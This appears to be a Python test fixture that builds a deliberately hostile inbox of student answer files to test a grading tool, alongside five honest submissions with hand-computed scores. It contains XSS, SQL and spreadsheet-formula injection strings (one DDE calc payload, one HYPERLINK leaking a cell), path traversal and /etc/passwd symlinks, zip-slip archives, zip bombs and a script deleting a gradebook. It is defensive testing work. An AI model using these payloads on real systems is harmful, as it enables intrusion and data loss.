"""Builds an inbox that is out to break a grader, with five honest students in it whose points were worked out by hand.

    python tests/teacher/hostile.py FOLDER [SEED]

build(folder, seed) is what the tests use. The seed changes the order in which files are made and the noise in some.
"""

import io
import json
import os
import random
import sys
import warnings
import zipfile
from contextlib import suppress
from copy import copy
from dataclasses import dataclass, field
from pathlib import Path

import kit
from kit.exercises.exercise import read_titles
from kit.files import sheet_as_json
from kit.model import Answer, AnswerSheet, Attribution, Mark, Reader

ARTICLE = "g20-ministers"
SAVED = "2026-11-20T09:00:00Z"
OVERRIDE = "\u202e"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
LEFT = (".DS_Store", "Thumbs.db", "__MACOSX/._s4.json", ".hidden/s4-checkpoint.json", "~$s4.json", "._s4.json")
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"


@dataclass(frozen=True, slots=True)
class Honest:
    """A student who did nothing wrong: the file's place in the inbox, and what the row has to say."""

    file: str
    id: str
    name: str
    points: dict[str, float]
    total: float  # each lesson counts 100


@dataclass(frozen=True, slots=True)
class Expected:
    """What has to come out: the honest rows, the files that need attention, and how many files were made."""

    honest: tuple[Honest, ...]
    attention: frozenset[str]
    files: int


@dataclass(slots=True)
class Inbox:
    """Files to be made, by their path; a value is bytes or what makes the file itself."""

    article: kit.Article
    key: kit.AnswerKey
    rng: random.Random
    made: dict = field(default_factory=dict)
    attention: set = field(default_factory=set)

    def add(self, file, content, attention=True):
        self.made[file] = content if isinstance(content, bytes) or callable(content) else content.encode()
        if attention:
            self.attention.add(file)

    def sheet(self, id, name="", **answers):
        """A sheet as JSON text; exercises by their answer, whole-article tasks by their list of records."""
        return json.dumps(self.raw(id, name, **answers), ensure_ascii=False)

    def raw(self, id, name="", saved=SAVED, **answers):
        values = {t: v if t in ("errors", "sources") else {"answer": v} for t, v in answers.items()}
        return {
            "format": 1,
            "article": {"id": ARTICLE, "sha256": self.article.sha256},
            "reader": {"id": id, "name": name},
            "answers": {task: {"value": value, "saved": saved} for task, value in values.items()},
        }

    def mark(self, start, end, **more):
        return {"start": start, "end": end, "text": self.article.text[start:end], **more}


# ---- the honest


def honest_students(inbox):
    """Five students; the points are those the exercise files give for these answers."""
    platform = "Ana Ruiz_1001_assignsubmission_file_/g20-ministers.s1.json"
    ana = inbox.sheet("s1", "Ana Ruiz", Q01=["group"], Q02=["10", "officials"], Q04=["lavrov"], Q16=["content"])
    # 4 of the 6 points of lesson 1, and 1 of the 13 of lesson 4: 66.67 + 7.69
    yield Honest(platform, "s1", "Ana Ruiz", {"Q01": 1, "Q02": 2, "Q04": 1, "Q16": 1}, 74.36), ana
    ben = inbox.sheet("s2", "Ben O’Hara", Q01=["ukraine"], Q04=["lavrov"])
    yield Honest("oharaben_LATE_1002_5001_sheet.json", "s2", "Ben O’Hara", {"Q01": 0, "Q04": 1}, 16.67), ben
    platform = "third/Jürgen Müller_1003_assignsubmission_file/sheet.json"
    yield Honest(platform, "s3", "Muller Jurgen", {"errors": 40, "sources": 40}, 80), perfect(inbox)
    yield Honest("s4.json", "s4", "Dana Blank", {}, 0), inbox.sheet("s4", "Dana Blank")
    chosen = ["ukrainian", "chinese", "experts", "bakhmut", "whelan"]
    emil = inbox.sheet("s5", "Émile Žák", Q18=[chosen, 1, "0"], Q31=["stays"])
    yield (
        Honest("deep/er/still/s5 ünïcode.json", "s5", "Émile Žák", {"Q18": 5, "Q31": 1}, 50.96),
        emil,
    )  # 5 / 13 + 1 / 8


def perfect(inbox):
    scored = (e for e in inbox.key.errors if e.tier in ("core", "subtle"))
    core = (a for a in inbox.key.attributions if a.tier == "core")
    marks = tuple(Mark(e.span, e.category, e.severity, *e.repairs[:1]) for e in scored)
    own = tuple(Attribution(a.content, a.source, a.cue, a.speaker, a.type) for a in core)
    answers = {"errors": Answer(marks, SAVED), "sources": Answer(own, SAVED)}
    sheet = AnswerSheet(ARTICLE, inbox.article.sha256, Reader("s3", "Muller Jurgen"), answers)
    return sheet_as_json(sheet, inbox.article)


# ---- files that are no JSON, or too much of it


def broken_files(inbox):
    add, sheet = inbox.add, inbox.sheet
    good = sheet("b1", "Broken")
    add("empty.json", b"")
    add("blank.json", b" \n\t ")
    add("cut.json", good[: len(good) // 2])
    add("binary.json", inbox.rng.randbytes(5000))
    add("zeros.json", bytes(3000))
    add("utf16.json", good.encode("utf-16"))
    add("utf16-bare.json", good.encode("utf-16-be"))
    crlf = sheet("bom", "Bom Crlf", Q01=["group"]).replace(", ", ",\r\n ")
    add("bom.json", b"\xef\xbb\xbf" + crlf.encode(), attention=False)
    add("latin.json", sheet("l1", "Renée").encode("latin-1"))
    add("large.json", sheet("big", Q13=["x" * 5_000_100]))
    add("large-spaces.json", good + " " * 5_000_001)
    add("deep.json", "[" * 100_000 + "]" * 100_000)
    add("deep-objects.json", '{"a":' * 5_000 + "1" + "}" * 5_000)
    add("doubled-key.json", good.replace('"format": 1', '"format": 1, "format": 1'))
    unreal = {"nan": ("Q02", "NaN, Infinity"), "overflow": ("Q02", "1e999"), "surrogate-answer": ("Q13", '"\\udfff"')}
    for name, (task, value) in unreal.items():
        answers = f'"answers": {{"{task}": {{"value": {{"answer": [{value}]}}}}}}'
        add(f"{name}.json", good.replace('"answers": {}', answers))
    add("huge-integer.json", good.replace('"format": 1', '"format": ' + "9" * 200_000))
    add("surrogate.json", good.replace("Broken", "\\ud800"))
    add("zero-byte.json", good.replace("Broken", "Bro\0ken"))
    for n, value in enumerate(("null", "true", "17", '"words"', "[]", "[[]]", "{}", '{"answers": []}')):
        add(f"not-a-sheet-{n}.json", value)


def wrong_sheets(inbox):
    add, sheet, raw = inbox.add, inbox.sheet, inbox.raw

    def changed(file, id="w", attention=True, **fields):
        add(file, json.dumps({**raw(id, "Wrong Sheet"), **fields}), attention)

    changed("format-99.json", format=99)
    changed("format-text.json", format="1")
    changed("other-article.json", article={"id": "riverside-library", "sha256": "0" * 64})
    changed("unknown-article.json", article={"id": "../../secret", "sha256": "0" * 64})
    changed("article-missing.json", article={})
    changed("article-list.json", article=[])
    changed("other-text.json", id="w-text", article={"id": ARTICLE, "sha256": "0" * 64}, attention=False)
    changed("reader-null.json", reader=None)
    changed("reader-number.json", reader={"id": 17})
    changed("extra-field.json", points=100)
    changed("own-points.json", score={"total": 1000})
    changed("answers-null.json", answers=None)
    changed("answer-text.json", answers={"Q01": "group"})
    changed("answer-extra.json", answers={"Q01": {"value": {}, "saved": SAVED, "points": 3}})
    changed("saved-number.json", answers={"Q01": {"value": {}, "saved": 1}})
    future = {"Q01": {"value": {}, "saved": "9999-99-99T99:99:99Z"}}
    changed("saved-future.json", id="w-future", answers=future, attention=False)
    mark = inbox.mark
    end = len(inbox.article.text)
    add("past-end.json", sheet("m1", errors=[mark(0, 5) | {"end": end + 500}]))
    add("far-past-end.json", sheet("m2", errors=[mark(0, 5) | {"end": 10**18}]))
    add("backwards.json", sheet("m3", errors=[mark(50, 50) | {"end": 10}]))
    add("negative.json", sheet("m4", errors=[mark(0, 5) | {"start": -5}]))
    add("float.json", sheet("m5", errors=[mark(0, 5) | {"start": 0.5}]))
    add("shifted.json", sheet("m6", errors=[mark(100, 120) | {"text": "words that stand nowhere in it"}]))
    add("shifted-by-one.json", sheet("m7", errors=[mark(100, 140) | {"start": 101, "end": 141}]), attention=False)
    add("mark-fields.json", sheet("m8", errors=[mark(0, 5, points=100)]))
    add("mark-category.json", sheet("m9", errors=[mark(0, 5, category="best")]))
    add("mark-null.json", sheet("m10", errors=[None]))
    add("marks-object.json", sheet("m11", errors={"0": mark(0, 5)}))
    add("marks-10000.json", sheet("m12", errors=[mark(0, 5)] * 10_000))
    add("sources-10000.json", sheet("m13", sources=[{"content": mark(0, 5)}] * 10_000))
    add("source-parent.json", sheet("m14", sources=[{"content": mark(0, 5), "tier": "core", "level": 2}]))
    add("unknown-tasks.json", sheet("u1", "Una", Q999=["x"], admin=["x"], key={"a": 1}), attention=False)
    add("megabyte.json", sheet("u2", "Mega", Q13=["word " * 200_000], Q01=["group"]), attention=False)
    add("megabyte-name.json", sheet("u3", "N" * 1_000_000), attention=False)
    add("many-parts.json", sheet("u4", "Many", Q01=["group"] * 50_000))
    odd = json.loads(sheet("u5", "Fields", Q01=["group"]))
    odd["answers"]["Q01"]["value"] |= {"points": 99, "outcome": "right", "attempts": -1, "__class__": "Row", "first": 7}
    add("record-fields.json", json.dumps(odd), attention=False)


PLAIN = (None, True, 0, -1, 1e300, "", "x", [], [None], [[[]]], {})
WRONG_TYPES = (*PLAIN, {"results": "x"}, {"source": 1}, [{"start": "a", "end": None}], {"": {"": None}})


def wrong_types(inbox):
    """Each exercise answered with each wrong type, in the record's place, as the answer, and as every part of it."""
    ids = [title.id for title in read_titles(Path(__file__).parents[2] / "exercises") if title.article == ARTICLE]
    for n, value in enumerate(WRONG_TYPES):
        for place, wrapped in (("record", value), ("answer", {"answer": value}), ("part", {"answer": [value] * 2})):
            sheet = inbox.raw(f"t{n}-{place}", "Types")
            sheet["answers"] = {id: {"value": wrapped, "saved": SAVED} for id in ids}
            inbox.add(f"types/{place}-{n:02}.json", json.dumps(sheet), attention=False)


# ---- who is who


ODD_PEOPLE = {
    "path": ("../../etc/passwd", "Path"),
    "drive": ("C:\\Windows\\win.ini", "Drive"),
    "long": ("i" * 5_000, "Long"),
    "formula": ("=1+1", FORMULA),
    "full-width": ("＝1+1", "  +cmd|' /C calc'!A0"),
    "separator": ("x;=1+1", "a;=1+1\t@SUM(A1)"),
    "override": (f"a{OVERRIDE}b", f"Ana{OVERRIDE}ziuR"),
    "control": ("c\r\n\x07\x1b[31m", "Bell\x07 Red\x1b[31m\u2028"),
    "script": (SCRIPT, SCRIPT),
    "quotes": ("'; drop table stored; --", "\"Robert'); --"),
}


def wrong_people(inbox):
    add, sheet = inbox.add, inbox.sheet
    right = {"Q01": ["group"], "Q04": ["lavrov"]}
    add("nobody.json", sheet("me", "", **right))
    add("no-id.json", sheet("", "", **right))
    for file, (id, name) in ODD_PEOPLE.items():
        add(f"id-{file}.json", sheet(id, name, **right), attention=False)
    code, mark = {"source": SCRIPT, "results": []}, inbox.mark(0, 5, repair=SCRIPT, id=SCRIPT)
    scripts = sheet("h1", SCRIPT, Q13=[SCRIPT], Q30=[SCRIPT] * 5, Q26=[code], errors=[mark])
    add("script-everywhere.json", scripts, attention=False)
    formula = inbox.mark(0, 5, repair=FORMULA)
    formulas = sheet("f1", FORMULA, Q13=[FORMULA], Q34=["@SUM(A1:A9)"], errors=[formula])
    add("formula-answers.json", formulas, attention=False)
    add("Mal Ory_1900_assignsubmission_file_/sheet.json", sheet("s2", "Ben O’Hara", **right))
    inside = "Ana Ruiz_1001_assignsubmission_file_/sheet.json"
    add(f"Eve Il_1901_assignsubmission_file_/{inside}", sheet("s9", "Ana Ruiz", **right))
    add("evilann_1902_777_Ana Ruiz_1001_assignsubmission_file_sheet.json", sheet("s8", "Ana Ruiz", **right))
    add("same/sheet.json", sheet("same1", "Sam One", **right), attention=False)
    add("same too/sheet.json", sheet("same2", "Sam Two", **right), attention=False)
    add("g20-ministers.s1.previous.json", sheet("s1", "Ana Ruiz"))
    add("g20-ministers.s1.set-aside-2.json", sheet("s1", "Ana Ruiz"))
    add(".g20-ministers.s1.new.tmp", sheet("s1", "Ana Ruiz"))


# ---- other files


def other_kinds(inbox):
    cell = {"cell_type": "code", "source": ["kit.highlight_sources(article, sheet)"], "metadata": {}, "outputs": []}
    notebook = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    inbox.add("02_who_is_talking.ipynb", notebook)
    inbox.add("notebook.json", notebook)
    inbox.add("print.pdf", b"%PDF-1.7\n" + inbox.rng.randbytes(800))
    inbox.add("pdf.json", b"%PDF-1.7\n" + inbox.rng.randbytes(800))
    inbox.add("screen.png", b"\x89PNG\r\n\x1a\n" + inbox.rng.randbytes(500))
    inbox.add("essay.docx", zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}))
    inbox.add("essay.zip", zipped({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}))
    inbox.add("page.html", "<!DOCTYPE html><title>x</title>")
    inbox.add("notes.txt", "I could not find the button.")
    inbox.add("program.py", "import os\nos.remove('gradebook.csv')\n")
    inbox.add("no-suffix", "hello")
    inbox.add("odd.xyzzy", "hello")


def odd_files(inbox):
    sheet = inbox.sheet("link", "Lin Key")
    outside = inbox.sheet("outside", "Out Side", Q01=["group"])

    def link(to):
        return lambda path: path.symlink_to(to)

    inbox.add("link-to-passwd.json", link("/etc/passwd"))
    inbox.add("link-to-sheet.json", link("s4.json"))
    inbox.add("link-to-nothing.json", link("nowhere.json"))
    inbox.add("link-to-self.json", link("link-to-self.json"))
    inbox.add("link-to-folder", link("."))
    inbox.add("pipe.json", getattr(os, "mkfifo", impossible))
    inbox.add("closed.json", closed(outside), attention=os.name == "posix" and os.geteuid() != 0)
    inbox.add("/".join(["d"] * 60) + "/deep.json", sheet, attention=False)
    inbox.attention.add("/".join(["d"] * 41))
    names = (f"right{OVERRIDE}nosj", "line\nbreak\x1b[31m", "=1+1", os.fsdecode(b"na\xefve"), "n" * 240)
    for n, name in enumerate((*names, "e\u0301", "\u00e9", "Case", "case"), 1):
        inbox.add(f"{name}.json", inbox.sheet(f"n{n}", f"Odd {n}"), attention=False)
    for name in LEFT:
        inbox.add(name, inbox.sheet("s4", "Left Behind", Q01=["group"]), attention=False)


def impossible(path):
    raise OSError("this system has no pipes")


def closed(content):
    def make(path):
        path.write_text(content, "utf-8")
        path.chmod(0)

    return make


# ---- zips


def zipped(members, method=zipfile.ZIP_DEFLATED):
    """A zip of these members, or pairs of ZipInfo or name and content where a name stands twice."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", method) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of names that stand twice
        for name, content in members.items() if isinstance(members, dict) else members:
            archive.writestr(name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name), content, method)
    return packed.getvalue()


def special(name, mode):
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, mode << 16
    return info


def zips(inbox):
    def sheet(id, **answers):
        return inbox.sheet(id, f"Zip {id}", **answers).encode()

    right = {"Q01": ["group"]}

    def add(name, content, *attention):
        inbox.add(name, content, attention=False)
        inbox.attention.update(f"{name}/{member}" if member else name for member in attention)

    add("student.zip", zipped({"answers/g20-ministers.z1.json": sheet("z1", **right), "__MACOSX/x": b"x"}))
    add("nested.zip", zipped({"in.zip": zipped({"z2.json": sheet("z2", **right)})}))
    slips = ("../../slip.json", "/etc/abs.json", "C:\\x.json", "..\\win.json")
    shown = ("(..)/(..)/slip.json", "etc/abs.json", "C:/x.json", "(..)/win.json")
    add("slip.zip", zipped({name: sheet(f"z{n}") for n, name in enumerate(slips, 4)}), *shown)
    zeros = bytes(4_900_000)
    add("bomb.zip", zipped({f"b{n:02}.json": zeros for n in range(12)}), *(f"b{n:02}.json" for n in range(12)))
    add("bomb-in.zip", zipped({"in.zip": zipped({"b.json": zeros}, zipfile.ZIP_STORED)}), "in.zip")
    add("large-member.zip", zipped({"large.json": bytes(20_000_000)}), "large.json")
    add("Flo Od_1903_assignsubmission_file_/flood.zip", zipped({f"{n}.json": b"" for n in range(5_000)}), "")
    whole = zipped({"half.json": sheet("z12", Q13=["words and words " * 99])})
    add("cut.zip", whole[: len(whole) // 2], "")
    add("flipped.zip", flipped(whole), "half.json")
    add("noise.zip", b"PK\x03\x04" + inbox.rng.randbytes(2_000), "")
    add("zip-as.json", zipped({"renamed.json": sheet("z13", **right)}))
    add("sheet-as.zip", sheet("z14", **right))


def overlapping(first, *names):
    """A zip whose list gives the same bytes several names."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(first, bytes(5_000))
        for name in names:
            again = copy(archive.filelist[0])
            again.filename = name
            archive.filelist.append(again)
    return packed.getvalue()


def lied(packed, true, said):
    """The zip with another unpacked size written wherever it is written."""
    return packed.replace(true.to_bytes(4, "little"), said.to_bytes(4, "little"))


def flagged(packed, flags):
    """The zip with these flags, and no others, in front of the first member and in the list."""
    changed = bytearray(packed)
    for head, after in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.index(head) + after
        changed[at : at + 2] = flags.to_bytes(2, "little")
    return bytes(changed)


def flipped(packed):
    """The zip with some bytes of its first member changed."""
    return packed[:60] + bytes(byte ^ 0xFF for byte in packed[60:70]) + packed[70:]


# ---- all of it

PARTS = (broken_files, wrong_sheets, wrong_types, wrong_people, other_kinds, odd_files, zips)


def build(folder: Path, seed: int = 1) -> Expected:
    """Makes the inbox in a folder; what the file system cannot hold is left out of both."""
    article = kit.read_article(ARTICLE)
    inbox = Inbox(article, kit.read_key(ARTICLE, article), random.Random(seed))
    for part in PARTS:
        part(inbox)
    honest = []
    for student, sheet in honest_students(inbox):
        honest.append(student)
        inbox.add(student.file, sheet, attention=False)
    files = list(inbox.made)
    inbox.rng.shuffle(files)
    for file in files:
        if not make(folder / file, inbox.made[file]):
            inbox.attention = {shown for shown in inbox.attention if not file.startswith(shown)}
    return Expected(tuple(honest), frozenset(inbox.attention), len(files))


def make(path, content):
    """Whether this system could make the file."""
    with suppress(OSError, AttributeError, UnicodeError):
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists() and not path.is_symlink():  # a name that is the same here, such as in another case
            return False
        path.write_bytes(content) if isinstance(content, bytes) else content(path)
        return True
    return False


if __name__ == "__main__":
    made = build(Path(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 1)
    print(f"{made.files} files; {len(made.attention)} of them need attention; honest: {[h.file for h in made.honest]}")
